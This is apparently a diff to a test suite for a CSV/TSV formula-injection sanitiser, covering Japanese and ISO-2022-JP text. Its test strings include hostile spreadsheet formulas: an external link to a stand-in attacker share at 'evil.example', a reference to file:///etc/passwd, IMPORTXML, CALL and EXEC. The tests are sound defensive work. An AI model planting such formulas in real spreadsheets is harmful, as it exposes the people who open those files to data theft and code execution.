@@ -42,6 +42,9 @@ describe('cells that a spreadsheet would run', () => {
     '\t=IMPORTXML("http://e","//a")',
     '＝ＣＡＬＬ（１）',
     '  = EXEC ( "x" )',
+    "='\\\\evil.example\\share\\[a.xlsx]b'!A1",
+    "=1+'file:///etc/passwd'#$a.A1",
+    '=[a.xls]b!$A$1',
   ]
   for (const cell of active)
     it(`marks ${JSON.stringify(cell)}`, () => expect(isActiveCell(cell)).toBe(true))
@@ -56,6 +59,9 @@ describe('cells that a spreadsheet would run', () => {
     '－５',
     '-備考（任意）',
     '=A1+B1',
+    "='表 1'",
+    '＠[重要]お知らせ！',
+    "-It's mine!",
     '090-1234-5678',
     '+81 3 (代)',
   ]
@@ -83,6 +89,13 @@ describe('cells that a spreadsheet would run', () => {
     const bytes = new Uint8Array(Buffer.from('\uFEFFa\t=CALL(1)', 'utf16le'))
     const { output } = disarmBytes(bytes, 'tsv')
     expect(Buffer.from(output ?? []).toString('utf16le')).toBe("\uFEFFa\t'=CALL(1)")
+  })
+
+  it('sees the cells of ISO-2022-JP among kanji and kana, and behind a line that ends in kanji', () => {
+    const bytes = utf8('\x1b(I"\x1b(B,=CALL(1)\r\n\x1b$B6m\n=CALL(2),\x1b$B6m$,\x1b(B')
+    const { output } = disarmBytes(bytes, 'csv')
+    expect(Buffer.from(output ?? []).toString()).toContain(",'=CALL(1)\r\n\x1b$B6m\n'=CALL(2)")
+    expect(verifyClean(output ?? new Uint8Array(), 'csv')).toEqual({ clean: true, type: 'csv' })
   })
 
   it('marks what stands behind a closing quote, which spreadsheets join to the cell', () => {
